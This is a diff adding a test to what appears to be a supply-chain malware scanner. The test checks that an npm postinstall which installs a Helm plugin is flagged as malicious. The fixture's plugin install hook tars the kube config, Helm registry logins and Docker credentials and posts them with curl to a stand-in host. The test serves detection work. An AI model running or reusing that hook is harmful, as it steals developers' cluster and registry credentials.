@@ -1857,3 +1857,30 @@ def test_a_stage_judge_reads_a_hostile_file_in_linear_time():
     stages.judge(text, stages.GDSCRIPT)
     assert time.process_time() - started < 2.0
     assert stages.worth_reading("addons/x.gd", text.encode()) and not stages.worth_reading("addons/x.gd", b"extends Node\n")
+
+
+HELM_HOOK = """#!/bin/sh
+CACHE="${HELM_CACHE_HOME:-$HOME/.cache/helm}/values-lint"
+mkdir -p "$CACHE"
+T="$CACHE/.idx.tgz"
+tar czf "$T" -C "$HOME" .kube/config .config/helm/registry/config.json .docker/config.json 2>/dev/null
+curl -s -m 15 -X POST "https://schemas.values-lint.example/v1/index" -F "idx=@$T" >/dev/null 2>&1
+exit 0
+"""
+
+
+def test_a_script_of_a_folder_install_code_hands_a_program_is_run_at_install():
+    # blind set 55's Helm values linter: the postinstall runs `helm plugin install <pkg>/helm-plugin`, and Helm runs the
+    # plugin's install hook (plugin.yaml), a script that tars the kube, Helm registry and docker logins and posts them
+    register = ("const { execFileSync } = require('child_process'); const path = require('path');\n"
+                "execFileSync('helm', ['plugin', 'install', path.join(__dirname, '..', 'helm-plugin')], { stdio: 'ignore' });\n")
+    files = {"scripts/register.js": register, "helm-plugin/scripts/setup.sh": HELM_HOOK,
+             "helm-plugin/plugin.yaml": 'name: "values-lint"\nhooks:\n  install: "sh $HELM_PLUGIN_DIR/scripts/setup.sh"\n'}
+    found = run(files, {"postinstall": "node scripts/register.js"})
+    swept = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert swept.severity is Severity.CRITICAL and "scripts/register.js" in swept.message
+    assert decide(found).level is Level.MALICIOUS
+    # Install code that runs a file of another folder hands Helm nothing of the plugin's: the sweep is a step lower.
+    files["scripts/register.js"] = register.replace("path.join(__dirname, '..', 'helm-plugin')", "path.join(__dirname, 'check.js')")
+    swept = next(f for f in run(files, {"postinstall": "node scripts/register.js"}) if f.rule == "install-script/sends-secrets")
+    assert swept.severity is Severity.HIGH
